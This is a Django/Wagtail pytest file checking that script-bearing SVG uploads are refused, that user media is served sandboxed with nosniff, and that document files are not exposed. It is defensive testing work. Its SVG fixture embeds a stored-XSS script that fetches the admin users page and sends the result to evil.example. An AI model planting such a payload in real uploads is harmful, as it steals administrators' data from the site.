"""Stored script through uploads: SVG images are refused, and user media is served sandboxed."""

import io
import uuid

import pytest
from PIL import Image as PILImage

from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from wagtail.images import get_image_model

pytestmark = pytest.mark.django_db

SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/admin/users/').then(r=>r.text()).then(t=>fetch('//evil.example/?'+t))"
    b'</script><rect width="10" height="10"/></svg>'
)


def svg_file(name="logo.svg", content_type="image/svg+xml"):
    return SimpleUploadedFile(name, SVG, content_type=content_type)


def png_bytes():
    buffer = io.BytesIO()
    PILImage.new("RGB", (4, 4), "red").save(buffer, "PNG")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content_type"),
    [("logo.svg", "image/svg+xml"), ("logo.SVG", "image/svg+xml"), ("logo.png", "image/png")],
)
def test_an_svg_with_script_is_refused_by_the_image_upload_form(admin_client, name, content_type):
    response = admin_client.post(
        "/admin/images/add/", {"title": "Logo", "file": svg_file(name, content_type)}
    )
    assert response.status_code == 200  # the form again, with its error
    assert response.context["form"].errors["file"]
    assert not get_image_model().objects.exists()


def test_an_svg_with_script_is_refused_by_the_multiple_upload(admin_client):
    response = admin_client.post("/admin/images/multiple/add/", {"files[]": svg_file()})
    assert response.json()["success"] is False
    assert not get_image_model().objects.exists()


def test_a_png_is_still_accepted(admin_client):
    upload = SimpleUploadedFile("logo.png", png_bytes(), content_type="image/png")
    admin_client.post("/admin/images/add/", {"title": "Logo", "file": upload})
    assert get_image_model().objects.filter(title="Logo").exists()


@pytest.fixture
def media_file():
    folder = settings.MEDIA_ROOT / "original_images"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{uuid.uuid4().hex}.svg"
    path.write_bytes(SVG)  # as if stored before SVG was refused
    yield path.relative_to(settings.MEDIA_ROOT).as_posix()
    path.unlink()


def test_user_media_is_served_sandboxed_and_unsniffed(client, media_file):
    response = client.get(f"/media/{media_file}")
    assert response.status_code == 200
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_document_files_are_never_served_from_media(client):
    folder = settings.MEDIA_ROOT / "documents"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{uuid.uuid4().hex}.pdf"
    path.write_bytes(b"%PDF-1.4 embargoed")
    try:
        assert client.get(f"/media/documents/{path.name}").status_code == 404
        assert client.get(f"/media//documents/{path.name}").status_code == 404
    finally:
        path.unlink()
